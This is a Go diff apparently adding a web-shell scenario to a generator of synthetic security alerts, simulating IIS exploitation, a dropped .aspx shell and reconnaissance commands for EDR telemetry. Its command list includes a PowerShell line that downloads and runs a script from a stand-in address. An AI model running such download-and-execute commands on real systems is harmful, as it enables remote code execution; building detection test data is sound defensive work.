@@ -196,3 +196,34 @@ func (g *generator) linuxIntrusion(t int64) {
 		[]string{"Brute Force (T1110)", "Unix Shell (T1059.004)", "Cron (T1053.003)", "Resource Hijacking (T1496)"},
 		append([]evidence{{entityType: "Machine", role: "Impacted", dev: d}, {entityType: "Ip", role: "Related", dev: d, remoteIP: attacker.ip}}, ev...)...)
 }
+
+// webShell: an unpatched application on the internet-facing web server is exploited (T1190); the IIS
+// worker writes an .aspx web shell (T1505.003) and runs commands through cmd.exe for a scanning address.
+func (g *generator) webShell(t int64) {
+	d := g.w.web
+	if d.os.family != "windows" {
+		return
+	}
+	attacker := "203.0.113.145"
+	w3wp := g.newProc(d, d.svchost[0], iW3wp, `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm0d5a -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0`, g.w.netSvc, t-int64(4*hour))
+	for i := 0; i < 6; i++ {
+		g.connect(d, w3wp, t+int64(i)*int64(sec), "InboundConnectionAccepted", attacker, "", 443)
+	}
+	shell := dataFile(`C:\inetpub\wwwroot\aspnet_client\system_web\errorEE.aspx`, "webshell|errorEE", 2_841)
+	g.fileEvent(d, w3wp, t+int64(8*sec), "FileCreated", shell, nil)
+	var ev []evidence
+	for i, c := range []struct {
+		img int
+		cmd string
+	}{
+		{iCmd, `cmd.exe /c whoami`}, {iWhoami, `whoami`}, {iCmd, `cmd.exe /c "cd /d C:\inetpub\wwwroot\aspnet_client\system_web\&ipconfig /all"`},
+		{iIpconfig, `ipconfig /all`}, {iCmd, `cmd.exe /c net group "domain computers" /domain`}, {iNet, `net  group "domain computers" /domain`},
+		{iCmd, `cmd.exe /c powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/p.ps1')"`},
+	} {
+		p := g.spawn(d, w3wp, c.img, c.cmd, g.w.netSvc, t+int64(5*mins)+int64(i)*int64(20*sec))
+		ev = append(ev, evidence{entityType: "Process", role: "Related", dev: d, proc: p, file: p.img})
+	}
+	g.raise(t+int64(8*mins), srcMDE, "EDR", "Possible web shell installation", "Persistence", "High",
+		[]string{"Exploit Public-Facing Application (T1190)", "Web Shell (T1505.003)"},
+		append([]evidence{{entityType: "Machine", role: "Impacted", dev: d}, {entityType: "File", role: "Related", dev: d, file: shell}, {entityType: "Ip", role: "Related", dev: d, remoteIP: attacker}}, ev...)...)
+}
